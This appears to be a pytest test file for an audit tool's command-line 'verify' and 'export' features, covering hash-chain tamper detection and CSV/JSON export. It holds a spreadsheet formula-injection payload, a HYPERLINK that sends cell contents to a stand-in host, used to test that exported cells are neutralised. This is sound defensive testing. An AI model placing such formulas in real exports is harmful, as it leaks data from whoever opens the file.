import csv
import io
import json
import sqlite3
from typing import NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rtm.cli import main
from rtm.decisions import Dismissed, Forgotten, Labelled, Returned
from rtm.store.export import COLUMNS, exported, guarded
from rtm.store.store import Store
from tests.store.records import AT, claimed, fired, opened, refused
from tests.store.tampering import old

HOSTILE = '=HYPERLINK("http://x.example?q="&A1,"win")'


class Outcome(NamedTuple):
    code: int
    out: str
    err: str


@pytest.fixture
def rtm(capfd):
    """Return a function that runs ``rtm audit``."""

    def run(*arguments) -> Outcome:
        with pytest.raises(SystemExit) as ended:
            main(["audit", *map(str, arguments)])
        out, err = capfd.readouterr()
        return Outcome(int(ended.value.code or 0), out, err)

    return run


@pytest.fixture
def folder(tmp_path):
    store = Store.open(tmp_path, now=lambda: AT)
    store.keep([opened(0)], first=0)
    store.decide(claimed(who="@Ann"), key="a")
    store.decide(fired(), key="b")
    (sending,) = store.sendings.due(AT)
    store.settle(sending.id, refused())
    store.decide(Returned(at=AT, opportunity="o1", who="Ann", note="-1\r\n=2"), key="c")
    store.decide(
        Labelled(
            at=AT, who="Ann", post="p1", what="complaint", is_so=False, text=HOSTILE, lang=None
        ),
        key="d",
    )
    store.decide(Forgotten(at=AT, who="Ann", what="mood"), key="e")
    later = AT.replace(hour=5)
    store.decide(Dismissed(at=later, opportunity="o2", who="Ann", reason="\t+1 ünïcode"), key="f")
    store.close()
    return tmp_path


def write(folder, statement: str) -> None:
    connection = sqlite3.connect(folder / "rtm.db")
    with connection:
        connection.execute(statement)
    connection.close()


def table(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out, newline="")))


def test_an_unbroken_record_is_told_in_one_line(rtm, folder):
    outcome = rtm("verify", "--data", folder)

    head = (folder / "audit.head").read_text().split()[-1]
    assert outcome == (0, f"8 rows, unbroken; head {head}\n", "")
    assert rtm("verify", "--data", folder, "--head", head.upper()).code == 0


def test_a_broken_record_is_told_with_its_place_and_exit_code_1(rtm, folder):
    write(folder, "UPDATE events SET line = replace(line, 'dunk', 'drunk') WHERE kind = 'fired'")

    outcome = rtm("verify", "--data", folder)

    assert outcome == (1, "8 rows, broken: row 3 was changed, or put in\n", "")


def test_what_was_cut_off_is_told_with_where_it_was_noted(rtm, folder):
    write(folder, "DELETE FROM events WHERE seq = 8")

    outcome = rtm("verify", "--data", folder)

    said = "7 rows, broken: row 8, noted in audit.head at 2013-02-04T01:46:30Z is not in the record"
    assert outcome.code == 1
    assert outcome.out.startswith(f"{said}, which ends with row 7: ")


def test_a_head_that_is_not_in_the_record_is_exit_code_1(rtm, folder):
    outcome = rtm("verify", "--data", folder, "--head", "ab" * 32)

    assert outcome.code == 1
    assert outcome.out.startswith("8 rows, broken: the head that you noted is not in the record")


@pytest.mark.parametrize("head", ["", "abc", "x" * 64, "a" * 65])
def test_a_head_that_is_none_is_wrong_usage(rtm, folder, head):
    outcome = rtm("verify", "--data", folder, "--head", head)

    assert outcome.code == 2
    assert "write the 64 hexadecimal digits" in outcome.err


def test_a_folder_without_a_record_is_wrong_usage(rtm, tmp_path):
    outcome = rtm("verify", "--data", tmp_path)

    assert outcome.code == 2
    assert "no rtm.db in it" in outcome.err


def test_both_work_while_a_board_has_the_folder(rtm, folder):
    store = Store.open(folder)
    store.decide(claimed("o9"), key="g")

    assert rtm("verify", "--data", folder).out.startswith("9 rows, unbroken; head ")
    assert len(table(rtm("export", "--data", folder, "--format", "csv").out)) == 9
    store.close()


def test_an_older_folder_is_exported_and_verified_once_it_is_updated(rtm, tmp_path):
    old(tmp_path, 3)

    refused = rtm("verify", "--data", tmp_path)
    rows = table(rtm("export", "--data", tmp_path, "--format", "csv").out)

    assert refused.code == 2
    assert "made before records were chained" in refused.err
    assert [(row["kind"], row["note"], row["hash"]) for row in rows] == [
        ("noted", "ünïcode", "")
    ] * 3
    Store.open(tmp_path).close()
    outcome = rtm("verify", "--data", tmp_path)
    assert outcome.out.startswith("3 rows, unbroken (the first 3 chained when rtm was updated)")


def test_a_table_says_who_did_what_and_what_became_of_it(rtm, folder):
    rows = table(rtm("export", "--data", folder, "--format", "csv").out)

    assert tuple(rows[0]) == COLUMNS
    assert [row["seq"] for row in rows] == [str(number) for number in range(1, 9)]
    assert rows[0]["kind"] == "story_opened"
    assert rows[2] == {
        **dict.fromkeys(COLUMNS, ""),
        **{"seq": "3", "at": "2013-02-04T01:46:30.123456Z", "kind": "fired", "who": "Ann"},
        **{"opportunity": "o1", "channel": "dry", "account": "'@oreo", "key": "k1"},
        **{"text": "You can still dunk in the dark.", "hash": rows[2]["hash"]},
    }
    assert (rows[3]["kind"], rows[3]["reason"]) == ("refused", "too long")
    assert (rows[5]["note"], rows[5]["uri"]) == ("complaint: no", "p1")
    assert rows[6]["note"] == "mood"
    assert rows[7]["hash"] == (folder / "audit.head").read_text().split()[-1]


def test_no_cell_of_a_table_is_a_formula(rtm, folder):
    rows = table(rtm("export", "--data", folder, "--format", "csv").out)

    assert rows[1]["who"] == "'@Ann"
    assert rows[4]["note"] == "'-1\r\n=2"
    assert rows[5]["text"] == f"'{HOSTILE}"
    assert rows[7]["reason"] == "'\t+1 ünïcode"


@given(st.text())
def test_a_cell_is_guarded_where_it_begins_like_a_formula_and_else_as_it_is(text):
    cell = guarded(text)

    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell in (text, f"'{text}")
    assert (cell == text) != text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_json_has_every_text_as_it_was_kept(rtm, folder):
    lines = rtm("export", "--data", folder, "--format", "json").out.splitlines()

    rows = [json.loads(line) for line in lines]
    assert [tuple(row) for row in rows] == [COLUMNS] * 8
    assert rows[5]["text"] == HOSTILE
    assert (rows[5]["who"], rows[5]["opportunity"]) == ("Ann", None)
    assert rows[7]["reason"] == "\t+1 ünïcode"


def test_only_rows_of_the_time_asked_for_are_exported(rtm, folder):
    asked = ("export", "--data", folder, "--format", "csv")

    assert len(table(rtm(*asked, "--since", "2013-02-04T05:00:00+01:00").out)) == 1
    assert len(table(rtm(*asked, "--until", "2013-02-04 03:00").out)) == 7
    assert table(rtm(*asked, "--since", "2013-02-05").out) == []


@pytest.mark.parametrize(
    ("more", "said"),
    [
        (["--format", "xml"], "write csv or json"),
        (["--format", "csv", "--since", "noon"], "write a time such as"),
        (["--format", "csv", "--since", "2013-02-05", "--until", "2013-02-04"], "after --since"),
    ],
)
def test_what_cannot_be_meant_is_wrong_usage(rtm, folder, more, said):
    outcome = rtm("export", "--data", folder, *more)

    assert outcome.code == 2
    assert said in outcome.err


def test_a_damaged_row_is_exported_as_far_as_it_can_be_read(folder):
    write(folder, "UPDATE events SET line = CAST(x'7bff' AS TEXT), at = 'noon' WHERE seq = 2")

    rows = table("".join(exported(folder, "csv")))

    assert len(rows) == 8
    assert (rows[1]["at"], rows[1]["kind"]) == ("", "claimed")
    assert rows[1]["note"].startswith("cannot be read: ")
